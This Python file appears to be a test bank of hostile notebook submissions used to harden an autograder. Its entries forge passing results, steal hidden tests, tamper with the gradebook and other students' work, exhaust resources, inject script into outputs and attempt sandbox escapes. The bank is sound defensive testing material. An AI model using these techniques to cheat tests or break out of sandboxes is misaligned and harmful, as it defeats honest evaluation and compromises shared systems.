# The hostile bank: ways to steal hidden tests, forge a result, tamper with the gradebook or a neighbour, exhaust the
# machine, reach the network or outlive the submission. Each entry stands in the answer cell of `double` of the small lab
# in `lab.ipynb`, with a wrong `double` behind it unless it has one. None may earn a point for `double`.
#
# An entry's line has: what it tries to do; a title; `loses` with tests of the other exercises that it may cost itself;
# `needs` with the names of the examiner's that it attacks, which must be there or it is no attack.
# COURSE, PORT and TOKEN are known to the attacker: the course's folder, a listener on loopback, a word to leave behind.
# Each is bounded in time, memory and number, and attacks only what the test made.

# %% forge | an AST transformer drops every assert
import ast
class Drop(ast.NodeTransformer):
    def visit_Assert(self, node):
        return ast.copy_location(ast.Pass(), node)
get_ipython().ast_transformers.append(Drop())

# %% forge | an input transformer empties test cells | loses quad_values
get_ipython().input_transformers_cleanup.append(lambda lines: ["pass\n"] if any("double" in l for l in lines) else lines)

# %% forge | run_cell is replaced | loses quad_values
shell = get_ipython()
old = shell.run_cell
shell.run_cell = lambda source, *a, **k: old("pass" if "double" in source else source, *a, **k)

# %% forge | the kernel's execute is replaced | loses area_values quad_values
kernel = get_ipython().kernel
async def nothing(*a, **k):
    return {"status": "ok", "execution_count": 1, "payload": [], "user_expressions": {}}
kernel.do_execute = nothing

# %% forge | run_code swallows errors | loses area_values quad_values
get_ipython().__class__.run_code = lambda self, *a, **k: False

# %% forge | a custom exception handler shows nothing
get_ipython().set_custom_exc((Exception,), lambda *a, **k: None)

# %% forge | showtraceback does nothing
get_ipython().showtraceback = lambda *a, **k: None
get_ipython()._showtraceback = lambda *a, **k: None

# %% forge | a hook clears the output of every cell
from IPython.display import clear_output
get_ipython().events.register("post_execute", clear_output)

# %% forge | a hook publishes a result of two points
shell = get_ipython()
def publish(*_):
    shell.kernel.session.send(shell.kernel.iopub_socket, "execute_result",
        {"data": {"text/plain": "2.0"}, "metadata": {}, "execution_count": 1}, parent=shell.kernel.get_parent())
shell.events.register("pre_execute", publish)

# %% forge | errors are published as text
session = get_ipython().kernel.session
old_send = session.send
def send(socket, kind, *a, **k):
    return old_send(socket, "stream" if kind == "error" else kind, *a, **k)
session.send = send

# %% forge | numpy says that all is close
import numpy
numpy.allclose = numpy.array_equal = lambda *a, **k: True
numpy.testing.assert_allclose = lambda *a, **k: None

# %% forge | the name np is taken
class Yes:
    def __getattr__(self, name): return lambda *a, **k: True
np = Yes()

# %% forge | builtins are replaced | loses area_values quad_values
import builtins
builtins.abs = lambda x: 0
builtins.isinstance = lambda *a: True
builtins.AssertionError = Warning

# %% forge | the answer equals everything
class Same:
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __sub__(self, other): return 0
    __rsub__ = __sub__
    def __array__(self, *a, **k): raise TypeError
    def __bool__(self): return True
def double(x):
    return Same()

# %% forge | a float that equals everything
class Same(float):
    def __eq__(self, other): return True
    __hash__ = float.__hash__
def double(x):
    return Same(0)

# %% forge | an int that equals everything
class Same(int):
    def __eq__(self, other): return True
    __hash__ = int.__hash__
def double(x):
    return Same(0)

# %% forge | an array that equals everything
import numpy as np
class Same(np.ndarray):
    def __array_function__(self, *a, **k): return True
    def __array_ufunc__(self, *a, **k): return np.True_
    def __eq__(self, other): return True
def double(x):
    return np.zeros(3).view(Same)

# %% forge | unpickling the answer runs code
class Bomb:
    def __reduce__(self): return (exec, ("import builtins; builtins.double = lambda x: 2 * x",))
def double(x):
    return Bomb()

# %% forge | an array of objects
import numpy as np
class Same:
    def __eq__(self, other): return True
def double(x):
    out = np.empty(3, dtype=object)
    out[:] = [Same()] * 3
    return out

# %% forge | the process ends well in the middle of a test | loses area_values quad_values
import os
def double(x):
    os._exit(0)

# %% forge | SystemExit in a test
def double(x):
    raise SystemExit(0)

# %% forge | KeyboardInterrupt in a test
def double(x):
    raise KeyboardInterrupt

# %% forge | an exception that is no Exception
class Out(BaseException):
    pass
def double(x):
    raise Out

# %% forge | the argument is changed and returned
def double(x):
    try:
        x *= 0
    except TypeError:
        pass
    return x

# %% forge | the name assert-like helper is taken
check = lambda *a, **k: True
given = __import__("contextlib").nullcontext

# %% steal | the running test is read from the stack
import re, sys, linecache
def double(x):
    frame = sys._getframe(1)
    while frame:
        source = "".join(linecache.getlines(frame.f_code.co_filename))
        found = re.search(r"double\(%r\) == (\S+)" % x, source) if not hasattr(x, "shape") else None
        if found:
            return eval(found[1])
        frame = frame.f_back
    return 0

# %% steal | the running test is read from its bytecode
import sys
def double(x):
    for constant in sys._getframe(1).f_code.co_consts:
        if isinstance(constant, int) and constant > 5:
            return constant
    return 0

# %% steal | the running test is read from the request
import re
def double(x):
    code = get_ipython().kernel.get_parent()["content"].get("code", "")
    found = re.search(r"double\(%r\) == (\S+)" % x, code) if not hasattr(x, "shape") else None
    return eval(found[1]) if found else 0

# %% steal | the history of input is read
def double(x):
    import re
    for code in reversed(get_ipython().user_ns.get("In", [])):
        found = re.search(r"double\(%r\) == (\S+)" % x, code) if not hasattr(x, "shape") else None
        if found:
            return eval(found[1])
    return 0

# %% steal | the memory is searched for tests
import gc
def double(x):
    for thing in gc.get_objects():
        if type(thing) is dict and "double_val" + "ues" in str(thing.get("grade_id", "")):
            return 2 * x
        if type(thing) is list and any(type(s) is str and "double(3" + ") == " in s for s in thing[:50]):
            return 2 * x
    return 0

# %% steal | source is read from the disk
import pathlib
found = [p for p in pathlib.Path("COURSE/source").rglob("*.ipynb") if "double(3)" in p.read_text()]
def double(x):
    return 2 * x if found else 0

# %% steal | the restored notebook is read from the disk
import pathlib
places = [pathlib.Path.cwd(), *pathlib.Path("COURSE/autograded").rglob("*")]
found = [f for p in places if p.is_dir() for f in p.glob("*.ipynb") if "double(3)" in f.read_text()]
def double(x):
    return 2 * x if found else 0

# %% steal | the gradebook is read
import sqlite3
rows = []
try:
    rows = sqlite3.connect("file:COURSE/gradebook.db?mode=ro", uri=True).execute(
        "select source from source_cell where source like '%double(3)%'").fetchall()
except sqlite3.Error:
    pass
def double(x):
    return 2 * x if rows else 0

# %% steal | the process of nbgrader is looked at
import glob, os
found = []
for place in glob.glob("/proc/[0-9]*/cwd"):
    try:
        if int(place.split("/")[2]) != os.getpid() and os.readlink(place).startswith("COURSE"):
            found.append(place)
    except OSError:
        pass
def double(x):
    return 2 * x if found else 0

# %% steal | a neighbour's answer is copied
import json, pathlib
for path in pathlib.Path("COURSE/submitted").glob("*neighbour*/*/*.ipynb"):
    for cell in json.loads(path.read_text())["cells"]:
        source = "".join(cell["source"])
        if source.startswith("def double"):
            exec(source)
double = globals().get("double", lambda x: 0)

# %% steal | the temporary folders are searched
import pathlib, tempfile
found = []
for path in pathlib.Path("/tmp").glob("examiner-*/**/*"):
    try:
        if path.is_file() and b"double(3)" in path.read_bytes():
            found.append(path)
    except OSError:
        pass
def double(x):
    return 2 * x if found else 0

# %% steal | a kernel's connection file opens the other kernel
import glob, os
files = [f for folder in ("/tmp", os.path.expanduser("~/.local/share/jupyter/runtime"), "COURSE")
         for f in glob.glob(folder + "/**/kernel*.json", recursive=True)]
own = get_ipython().config.get("IPKernelApp", {}).get("connection_file", "")
from jupyter_client import BlockingKernelClient
for file in [f for f in files if os.path.basename(f) != os.path.basename(own)][:5]:
    try:
        client = BlockingKernelClient(connection_file=file)
        client.load_connection_file()
        client.start_channels()
        client.execute("import builtins; builtins.double = lambda x: 2 * x", reply=True, timeout=2)
    except Exception:
        pass

# %% tamper | a trigger in the gradebook raises every grade
import sqlite3
try:
    with sqlite3.connect("COURSE/gradebook.db", timeout=1) as db:
        db.execute("create trigger TOKEN after update on grade begin update grade set manual_score = 50 "
                   "where id = new.id; end")
except sqlite3.Error:
    pass

# %% tamper | the gradebook is overwritten
try:
    with open("COURSE/gradebook.db", "r+b") as file:
        file.write(b"TOKEN")
except OSError:
    pass

# %% tamper | a neighbour's submission is emptied
import pathlib
try:
    for path in pathlib.Path("COURSE/submitted").glob("zz_neighbour/*/*.ipynb"):
        path.write_text("{}")
except OSError:
    pass

# %% tamper | the instructor's tests are removed
import pathlib
try:
    for path in pathlib.Path("COURSE/source").rglob("*.ipynb"):
        path.write_text(path.read_text().replace("assert", "0 and"))
except OSError:
    pass

# %% tamper | the course's configuration is changed
try:
    with open("COURSE/nbgrader_config.py", "a") as file:
        file.write("\n# TOKEN\n")
except OSError:
    pass

# %% tamper | the restored notebook is changed while it is graded
import pathlib
try:
    for path in pathlib.Path("COURSE/autograded").rglob("*.ipynb"):
        path.chmod(0o644)
        path.write_text("{}")
except OSError:
    pass

# %% tamper | files with the names of nbgrader's own are left behind
import pathlib
for name in ("timestamp.txt", "hostile.ipynb", "nbgrader_config.py"):
    try:
        pathlib.Path(name).write_text("TOKEN")
    except OSError:
        pass

# %% tamper | a link to the gradebook is left behind
import os
for target in ("COURSE/gradebook.db", "/etc/passwd"):
    try:
        os.symlink(target, os.path.basename(target))
    except OSError:
        pass

# %% tamper | the process of nbgrader is killed
import os, signal
try:
    if os.getppid() > 1:
        os.kill(os.getppid(), signal.SIGTERM)
except OSError:
    pass

# %% tamper | a debugger is put on the process of nbgrader
import ctypes, os
libc = ctypes.CDLL(None)
if os.getppid() > 1 and libc.ptrace(16, os.getppid(), 0, 0) == 0:
    libc.ptrace(17, os.getppid(), 0, 0)
    double = lambda x: 2 * x

# %% outlive | a process changes the grades later
import subprocess, sys
code = ("import time, pathlib\n"
        "for _ in range(40):\n"
        "    time.sleep(.25)\n"
        "    for p in pathlib.Path('COURSE/autograded').glob('*_neighbour'):\n"
        "        (p / 'TOKEN').write_text('x')\n")
try:
    subprocess.Popen([sys.executable, "-c", code, "TOKEN"], start_new_session=True)
except OSError:
    pass

# %% outlive | a forked child goes on
import os, time
try:
    if os.fork() == 0:
        os.setsid()
        for _ in range(40):
            time.sleep(0.25)
            open("/tmp/TOKEN", "w").close()
        os._exit(0)
except OSError:
    pass

# %% outlive | a thread and an exit handler go on
import atexit, threading, time
def late():
    time.sleep(3)
    open("/tmp/TOKEN", "w").close()
atexit.register(late)
threading.Thread(target=late).start()

# %% outlive | a start-up file for later kernels
import os, pathlib
for folder in ("~/.ipython/profile_default/startup", "~/.local/lib/python3.11/site-packages"):
    place = pathlib.Path(os.path.expanduser(folder))
    try:
        place.mkdir(parents=True, exist_ok=True)
        (place / "usercustomize.py").write_text("TOKEN = 1")
        (place / "00.py").write_text("TOKEN = 1")
    except OSError:
        pass

# %% outlive | a package numpy for later submissions
import pathlib
for folder in (".", "..", "COURSE", "COURSE/autograded"):
    try:
        pathlib.Path(folder, "numpy").mkdir(exist_ok=True)
        pathlib.Path(folder, "numpy", "__init__.py").write_text("TOKEN = 1")
    except OSError:
        pass

# %% outlive | files in shared folders
for name in ("/tmp/TOKEN", "/dev/shm/TOKEN", "/var/tmp/TOKEN"):
    try:
        open(name, "w").close()
    except OSError:
        pass

# %% exhaust | memory in one piece
import numpy as np
try:
    big = np.ones(400_000_000)
except MemoryError:
    big = None

# %% exhaust | memory in many pieces
pieces = []
try:
    for _ in range(300):
        pieces.append(bytearray(10_000_000))
except MemoryError:
    pass
pieces = None

# %% exhaust | the disk
try:
    with open("big", "wb") as file:
        for _ in range(400):
            file.write(bytes(1_000_000))
except OSError:
    pass

# %% exhaust | the number of files
try:
    for i in range(12_000):
        open(f"f{i}", "w").close()
except OSError:
    pass

# %% exhaust | processes
import os, time
children = []
try:
    for _ in range(100):
        pid = os.fork()
        if pid == 0:
            time.sleep(5)
            os._exit(0)
        children.append(pid)
except OSError:
    pass

# %% exhaust | threads
import threading, time
try:
    for _ in range(300):
        threading.Thread(target=time.sleep, args=(3,), daemon=True).start()
except RuntimeError:
    pass

# %% exhaust | output without end
for _ in range(3000):
    print("x" * 10_000)

# %% exhaust | displays without end
from IPython.display import display
def double(x):
    return 0
while True:
    display(1)

# %% exhaust | output while a test runs
def double(x):
    print("y" * 50_000_000)
    return 0

# %% exhaust | a loop that never ends
def double(x):
    while True:
        pass

# %% exhaust | a loop that ignores interrupts | loses area_values quad_values
import signal
signal.signal(signal.SIGINT, signal.SIG_IGN)
def double(x):
    while True:
        pass

# %% exhaust | a sleep in the cell
import time
time.sleep(60)

# %% exhaust | a crash in the cell | loses area_values quad_values
import ctypes
ctypes.string_at(0)

# %% exhaust | a recursion without end
import sys
sys.setrecursionlimit(50_000)
def double(x):
    return double(x)

# %% wire | a value nested ten thousand deep
def double(x):
    value = []
    for _ in range(10_000):
        value = [value]
    return value

# %% wire | a value that holds itself
def double(x):
    value = []
    value.append(value)
    return value

# %% wire | a huge array
import numpy as np
def double(x):
    return np.zeros(40_000_000)

# %% wire | a huge integer
def double(x):
    return 1 << 10_000_000

# %% wire | the sender of values is replaced | loses area_values quad_values | needs examiner.wire.student.answer
import sys
module = sys.modules.get("examiner.wire.student")
if module:
    module.answer = lambda data: b"AAAA" * 1000

# %% wire | handles that were never given out | loses area_values quad_values | needs examiner.wire.student.refer examiner.wire.values.Ref
import base64, sys
module = sys.modules.get("examiner.wire.student")
if module:
    from examiner.wire.values import Ref
    module.refer = lambda obj: Ref(10**6, "function", "double", True)

# %% wire | an old reply is sent again | loses area_values quad_values | needs examiner.wire.student.answer
import sys
module = sys.modules.get("examiner.wire.student")
if module:
    old, kept = module.answer, []
    def answer(data):
        kept.append(old(data))
        return kept[0]
    module.answer = answer

# %% wire | every reply comes twice
session = get_ipython().kernel.session
old_send = session.send
def twice(*a, **k):
    try:
        old_send(*a, **k)
    except Exception:
        pass
    return old_send(*a, **k)
session.send = twice

# %% wire | no reply ever comes | loses area_values quad_values | needs examiner.wire.student.answer
import sys, time
module = sys.modules.get("examiner.wire.student")
if module:
    module.answer = lambda data: time.sleep(100)

# %% wire | the line is closed instead of an answer | loses area_values quad_values | needs examiner.wire.student.line.send
import sys
module = sys.modules.get("examiner.wire.student")
if module:
    module.line.send = lambda connection, key, data: connection.close()

# %% wire | a reply that promises more than there is memory | loses area_values quad_values | needs examiner.wire.student.line.HEADER examiner.wire.student.line.send
import sys
module = sys.modules.get("examiner.wire.student")
if module:
    module.line.send = lambda connection, key, data: connection.sendall(module.line.HEADER.pack(key, 1 << 62))

# %% wire | half a reply | loses area_values quad_values | needs examiner.wire.student.line.HEADER examiner.wire.student.line.send
import sys
module = sys.modules.get("examiner.wire.student")
if module:
    module.line.send = lambda connection, key, data: connection.sendall(module.line.HEADER.pack(key, len(data)) + data[:-1])

# %% wire | a flood of replies to no question | loses area_values quad_values | needs examiner.wire.student.line.HEADER examiner.wire.student.line.send
import sys, time
module = sys.modules.get("examiner.wire.student")
if module:
    frame = module.line.HEADER.pack(bytes(16), 1000) + bytes(1000)
    def send(connection, key, data):
        end = time.monotonic() + 30
        while time.monotonic() < end:
            connection.sendall(frame * 100)
    module.line.send = send

# %% wire | each reply is sent twice over the line | needs examiner.wire.student.line.send
import sys
module = sys.modules.get("examiner.wire.student")
if module:
    old = module.line.send
    def send(connection, key, data):
        old(connection, key, data)
        old(connection, key, data)
    module.line.send = send

# %% wire | every descriptor is closed | loses area_values quad_values
import os
os.closerange(3, 256)

# %% wire | the line is asked by the student too
import socket
try:
    line = socket.socket(socket.AF_UNIX)
    line.connect("line")
except OSError:
    pass

# %% wire | the reply names the judge's own exception | needs examiner.wire.student.describe examiner.wire.student.Raised
import sys
module = sys.modules.get("examiner.wire.student")
if module:
    module.describe = lambda error: module.Raised("SystemExit", "x", [0], "")
def double(x):
    raise ValueError

# %% wire | types lie about their names
class int(int):
    __module__ = "builtins"
    def __eq__(self, other): return True
    __hash__ = None
def double(x):
    return int(0)

# %% network | a connection out
import socket
try:
    with socket.create_connection(("127.0.0.1", PORT), timeout=2) as line:
        line.sendall(b"TOKEN")
except OSError:
    pass

# %% network | a datagram out
import socket
try:
    socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"TOKEN", ("127.0.0.1", PORT))
except OSError:
    pass

# %% network | a socket in the file system
import socket
try:
    line = socket.socket(socket.AF_UNIX)
    line.connect("COURSE/listener")
    line.sendall(b"TOKEN")
except OSError:
    pass

# %% inject | a script in an output
from IPython.display import HTML, display
display(HTML("<script>document.title='TOKEN'</script><img src=x onerror=\"document.title='TOKEN'\">"))

# %% inject | a script as JavaScript and as a drawing
from IPython.display import Javascript, SVG, display
display(Javascript("document.title='TOKEN'"))
display({"image/svg+xml": "<svg xmlns='http://www.w3.org/2000/svg' onload=\"document.title='TOKEN'\"></svg>"}, raw=True)

# %% inject | a script in an error
class E(Exception):
    def _render_traceback_(self): return ["<script>document.title='TOKEN'</script>", "\x1b[31m<img src=x onerror=\"document.title='TOKEN'\">"]
def double(x):
    raise E("<script>document.title='TOKEN'</script>")

# %% inject | a script in the text of a picture
from IPython.display import display
png = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
evil = "\" onload=\"document.title='TOKEN'\" x=\"<script>document.title='TOKEN'</script>"
display({"image/png": png}, raw=True, metadata={"image/png": {"alt": evil, "width": evil}, "alt": evil})

# %% exhaust | large arrays without end from one object
import numpy as np
class Many:
    def __iter__(self):
        while True:
            yield np.ones(7_500_000)
    def __len__(self):
        return 3
    def __getitem__(self, place):
        return np.ones(7_500_000)
def double(x):
    return Many()

# %% exhaust | an array of no bytes and many rows
import numpy as np
def double(x):
    return np.zeros((2**27, 0))

# %% exhaust | lists of large arrays
import numpy as np
def double(x):
    return [np.ones(200_000) for _ in range(35)]

# %% exhaust | twenty thousand empty files
made = 0
try:
    for made in range(20_000):
        open(f"empty{made}.txt", "w").close()
except OSError:
    pass

# %% break out | new processes by the kernel's own calls
import ctypes, os, platform, signal
call = ctypes.CDLL(None, use_errno=True).syscall
x86 = platform.machine() == "x86_64"
born = []
clone = 56 if x86 else 220
pid = call(clone, signal.SIGCHLD, 0, 0, 0, 0)
if pid == 0:
    os._exit(0)
born += [pid] * (pid > 0)
try:
    pid = os.posix_spawn("/bin/true", ["true"], {})
    born.append(pid)
except OSError:
    pass
def double(x):
    return 2 * x if born else 0

# %% break out | calls of the kernel that no notebook needs
import ctypes, platform
call = ctypes.CDLL(None, use_errno=True).syscall
call.restype = ctypes.c_long
column = 0 if platform.machine() == "x86_64" else 1
zeros = ctypes.create_string_buffer(256)
calls = {"io_uring_setup": (425, 425, 1, zeros), "memfd_create": (319, 279, b"TOKEN", 0), "inotify_init1": (294, 26, 0),
         "userfaultfd": (323, 282, 1), "perf_event_open": (298, 241, zeros, 0, -1, -1, 0), "keyctl": (250, 219, 0, -3, 1),
         "unshare": (272, 97, 0x400), "shmget": (29, 194, 0, 4096, 0o1600), "mq_open": (240, 180, b"TOKEN", 0o102, 0o600, 0),
         "pkey_alloc": (330, 289, 0, 0), "landlock": (444, 444, 0, 0, 1), "pidfd_open": (434, 434, 1, 0)}
opened = [name for name, numbers in calls.items() if call(numbers[column], *numbers[2:]) >= 0]
def double(x):
    return 2 * x if opened else 0

# %% break out | sockets of every kind
import socket
opened = []
for family in range(1, 46):
    for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM, socket.SOCK_RAW, socket.SOCK_SEQPACKET):
        try:
            opened.append(socket.socket(family, kind))
        except OSError:
            pass
def double(x):
    return 2 * x if opened else 0

# %% break out | every process that there may be gets a signal
import os, signal
reached = []
for pid in [-1, 0, *range(2, 70)]:
    try:
        if pid != os.getpid():
            os.kill(pid, 0)
            reached.append(pid)
    except OSError:
        pass
def double(x):
    return 2 * x if reached else 0

# %% forge | the answer says that it is at its end
def double(x):
    raise StopIteration(2 * 3)

# %% forge | an exception that is equal to all and cannot be shown
class Odd(ValueError):
    def __str__(self): raise self
    __repr__ = __str__
    def __eq__(self, other): return True
    __hash__ = None
def double(x):
    raise Odd

# %% forge | the class of the answer changes while it is looked at
class Turning:
    @property
    def __class__(self): return int
    def __index__(self): return 6
    def __eq__(self, other): return True
    __hash__ = None
def double(x):
    return Turning()

# %% forge | what later cells define is kept from being bound | loses area_values quad_values
get_ipython().user_ns.__class__
class Kept(dict):
    def __setitem__(self, name, value):
        if name not in ("area", "quad"):
            dict.__setitem__(self, name, value)
get_ipython().user_ns = Kept(get_ipython().user_ns)

# %% forge | what is lent is kept, and handed out as an answer of one's own
kept = []
def double(x):
    return kept[0](x) if kept else 0
import builtins
class Watch(dict):
    def __getitem__(self, name):
        value = dict.__getitem__(self, name)
        if name == "double" and value is not double:
            kept.append(value)
        return value
try:
    builtins.__dict__["double"] = double
    get_ipython().user_global_ns.update(double=double)
except Exception:
    pass

# %% steal | warnings and exceptions show the lines of a test
import sys, traceback
found = []
def double(x):
    for entry in traceback.extract_stack():
        if entry.line and "==" in entry.line:
            found.append(entry.line)
    return 2 * x if found else 0

# %% steal | a debugger follows the test
import sys, threading
seen = []
def follow(frame, event, arg):
    if "assert" in str(frame.f_code.co_names):
        seen.append(frame)
    return follow
sys.settrace(follow)
sys.setprofile(follow)
threading.settrace(follow)
def double(x):
    return 2 * x if seen else 0

# %% steal | the memory of the process is read as a file
found = False
try:
    with open("/proc/self/mem", "rb") as memory, open("/proc/self/maps") as maps:
        for line in maps:
            begin, end = (int(part, 16) for part in line.split()[0].split("-"))
            memory.seek(begin)
            found = found or b"double(3" + b") ==" in memory.read(min(end - begin, 10**6))
except OSError:
    pass
def double(x):
    return 2 * x if found else 0

# %% exhaust | a message of fifty large parts
kernel, part = get_ipython().kernel, bytes(30 << 20)
kernel.iopub_thread.socket.send_multipart([part] * 50, copy=False)

# %% exhaust | a reply of fifty large parts | loses area_values quad_values
session = get_ipython().kernel.session
old_send, part = session.send, bytes(30 << 20)
def send(stream, kind, *a, **k):
    if kind == "execute_reply":
        k["buffers"] = [part] * 50
    return old_send(stream, kind, *a, **k)
session.send = send

# %% exhaust | a message of a hundred thousand small parts
kernel = get_ipython().kernel
kernel.iopub_thread.socket.send_multipart([b""] * 100_000, copy=False)

# %% exhaust | the text of the next cell is very long | loses area_values quad_values
get_ipython().set_next_input("x" * 150_000_000)

# %% exhaust | an output of empty lists
from IPython.display import display
display({"application/json": [[]] * 5_000_000}, raw=True)

# %% exhaust | an output nested without end
from IPython.display import display
deep = []
for _ in range(50_000):
    deep = [deep]
try:
    display({"application/json": deep}, raw=True)
except RecursionError:
    pass

# %% exhaust | an output of a hundred thousand kinds
from IPython.display import display
display({f"text/x-{n}": "x" for n in range(100_000)}, raw=True)

# %% exhaust | one display that is updated without end
from IPython.display import display
handle = display("x", display_id=True)
for n in range(3000):
    handle.update("y" * 20_000)

# %% exhaust | an exception of a hundred million characters
def double(x):
    raise ValueError("x" * 100_000_000)
raise ValueError("x" * 100_000_000)

# %% exhaust | a traceback of a million lines
class Long(Exception):
    def _render_traceback_(self): return ["x"] * 1_000_000
raise Long

# %% exhaust | warnings without end
import warnings
def double(x):
    for n in range(200_000):
        warnings.warn(f"{n}" + "x" * 100)
    return 0

# %% exhaust | forged warnings of four megabytes | loses area_values quad_values | needs examiner.wire.student.fields
import sys
module = sys.modules.get("examiner.wire.student")
if module:
    old = module.fields
    module.fields = lambda reply: old(reply) | {"warnings": [["UserWarning", f"w{n}"] for n in range(150_000)]}

# %% exhaust | a value of four million empty lists
def double(x):
    return [[]] * 3_900_000

# %% exhaust | the largest array that is taken, again and again
import numpy as np
big = np.zeros(8_000_000)
def double(x):
    return big

# %% exhaust | names without end
for n in range(300_000):
    globals()[f"name_{n}"] = n

# %% exhaust | widgets without end
try:
    import ipywidgets
    for n in range(500):
        ipywidgets.IntSlider()
except ImportError:
    pass

# %% exhaust | short sleeps without end
import time
while True:
    time.sleep(0.001)

# %% exhaust | it waits for input
def double(x):
    return input("?")
try:
    input("?")
except Exception:
    pass

# %% exhaust | a signal every millisecond | loses area_values quad_values
import signal
signal.signal(signal.SIGALRM, lambda *_: None)
signal.setitimer(signal.ITIMER_REAL, 0.001, 0.001)

# %% exhaust | it stops itself
import os, signal
os.kill(os.getpid(), signal.SIGSTOP)
signal.raise_signal(signal.SIGTSTP)

# %% exhaust | threads that go on after the cell
import threading
def work():
    while True:
        pass
for _ in range(4):
    threading.Thread(target=work, daemon=True).start()

# %% outlive | an object that acts when it goes, and a handler at the exit
import atexit, weakref
def leave(*_):
    for name in ("/tmp/TOKEN", "COURSE/TOKEN"):
        try:
            open(name, "w").close()
        except OSError:
            pass
class Last:
    __del__ = leave
last = Last()
atexit.register(leave)
weakref.finalize(last, leave)

# %% wire | functions that were never lent are called back | needs examiner.wire.student.callback
import sys
module = sys.modules.get("examiner.wire.student")
def double(x):
    for number in range(3):
        try:
            return module.callback(number, "f", "")(x)
        except Exception:
            pass
    return 0

# %% wire | calls back without end | loses area_values quad_values | needs examiner.wire.student.callback
import sys
module = sys.modules.get("examiner.wire.student")
def double(x):
    while True:
        try:
            module.callback(0, "f", "")(x)
        except Exception:
            pass

# %% wire | a call back of no form | loses area_values quad_values | needs examiner.wire.student.answer examiner.wire.student.encode
import sys
module = sys.modules.get("examiner.wire.student")
if module:
    module.answer = lambda data: module.encode({"callback": "__class__", "args": 3, "kwargs": []}, module.refer)

# %% wire | descriptors are sent along | needs examiner.wire.student.line.send
import os, socket, sys
module = sys.modules.get("examiner.wire.student")
if module:
    old = module.line.send
    def send(connection, key, data):
        try:
            socket.send_fds(connection, [b""], [0, 1, 2] * 50)
        except OSError:
            pass
        old(connection, key, data)
    module.line.send = send

# %% break out | links to what is elsewhere
import os
found = ""
for place in ("COURSE/gradebook.db", "COURSE/source", "/etc/passwd", "/proc/1/root"):
    for link in (os.symlink, os.link):
        try:
            link(place, "link.txt")
            found += str(os.listdir("link.txt") if os.path.isdir("link.txt") else open("link.txt", "rb").read())
        except OSError:
            pass
        try:
            os.remove("link.txt")
        except OSError:
            pass
def double(x):
    return 2 * x if found else 0

# %% break out | limits are lifted
import resource
lifted = []
for limit in (resource.RLIMIT_DATA, resource.RLIMIT_AS, resource.RLIMIT_CPU, resource.RLIMIT_NPROC, resource.RLIMIT_FSIZE):
    try:
        resource.setrlimit(limit, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
        lifted.append(limit)
    except (OSError, ValueError):
        pass
def double(x):
    return 2 * x if lifted else 0

# %% break out | another user, another root, a device
import os, stat
done = []
for action in (lambda: os.setuid(0), lambda: os.setresgid(0, 0, 0), lambda: os.chroot("."), lambda: os.nice(-5),
               lambda: os.mknod("device", 0o600 | stat.S_IFBLK, os.makedev(8, 0)), lambda: os.setgroups([0]),
               lambda: os.sched_setaffinity(1, {0}) or 1 / 0, lambda: os.mkfifo("/tmp/TOKEN")):
    try:
        action()
        done.append(action)
    except (OSError, ZeroDivisionError):
        pass
def double(x):
    return 2 * x if done and os.getuid() == 0 else 0
